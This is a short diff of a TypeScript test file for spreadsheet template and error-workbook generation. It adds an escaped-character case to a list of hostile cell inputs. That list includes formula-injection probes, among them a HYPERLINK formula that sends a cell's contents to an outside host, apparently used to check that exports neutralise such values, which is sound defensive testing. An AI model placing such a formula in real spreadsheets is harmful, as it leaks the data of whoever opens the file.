@@ -58,7 +58,7 @@ describe.each(pack.recordTypes.map((spec) => [spec.code, spec] as const))('templ
           { length: Number(to) - Number(from) + 1 },
           (_, at) => workbook.getWorksheet('_xinbao')!.getCell(`${column}${Number(from) + at}`).text,
         )
-        expect(items).toEqual(pack.codeLists[field.codeList!]?.items.map(({ label }) => label))
+        expect(items).toEqual(pack.codeLists[field.codeList]?.items.map(({ label }) => label))
       }
     })
     expect(help?.rowCount).toBe(fields.length + 2)
@@ -76,6 +76,7 @@ describe('error workbook', () => {
     '＝1+1',
     '=HYPERLINK("http://x/?"&A2,"a")',
     '_x0041_',
+    '_x000D_',
     '440106199001011234',
     '2026-03-02',
   ]
